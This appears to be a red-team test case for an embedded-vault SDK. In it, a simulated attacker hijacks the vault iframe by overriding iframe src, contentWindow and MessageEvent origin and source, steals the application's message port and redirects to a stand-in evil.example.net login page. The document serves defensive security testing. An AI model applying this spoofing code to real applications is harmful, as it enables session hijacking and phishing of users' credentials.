// A real attacker: comes first and puts a frame of their own where the SDK puts the vault's: `src` leads to their server, and
// what a message says of where it came from is a lie. The application then talks to them.
export default {
  row: "frames",
  expected: [null, "loses"],
  // The application has the attacker's frame for a vault.
  breaks: true,
  elsewhere: (redteam) => {
    setInterval(() => parent.postMessage("strongroom:hello", "*"), 10);
    addEventListener("message", ({ ports: [port] }) => {
      if (!port) return;
      redteam.loot("the attacker's frame has the application's port");
      port.onmessage = ({ data }) => redteam.loot(data);
      port.postMessage([0, "https://evil.example.net/login"]);
    });
  },
  before: (redteam) => {
    const { vault, evil } = redteam;
    const change = (owner, name, lie) => {
      const own = Object.getOwnPropertyDescriptor(owner.prototype, name);
      Object.defineProperty(owner.prototype, name, { ...own, ...lie(own) });
    };
    change(HTMLIFrameElement, "src", ({ set }) => ({
      set(value) {
        set.call(this, String(value).replace(vault, evil));
      },
    }));
    change(MessageEvent, "origin", ({ get }) => ({
      get() {
        const origin = get.call(this);
        return origin === evil ? vault : origin;
      },
    }));
    // What is meant for the vault's origin goes to whoever is there.
    const masks = new Map();
    const mask = (real) => {
      const worn = masks.get(real) ?? { postMessage: (data, _, ports) => real.postMessage(data, "*", ports) };
      masks.set(real, worn);
      return worn;
    };
    change(HTMLIFrameElement, "contentWindow", ({ get }) => ({
      get() {
        return mask(get.call(this));
      },
    }));
    change(MessageEvent, "source", ({ get }) => ({
      get() {
        const source = get.call(this);
        return source && source !== window ? mask(source) : source;
      },
    }));
  },
  after: (_, redteam) => redteam.wait(1500),
  // It has the port that was made for the vault.
  reached: ({ stolen }) => stolen.some((request) => request.includes("has the application's port")),
};
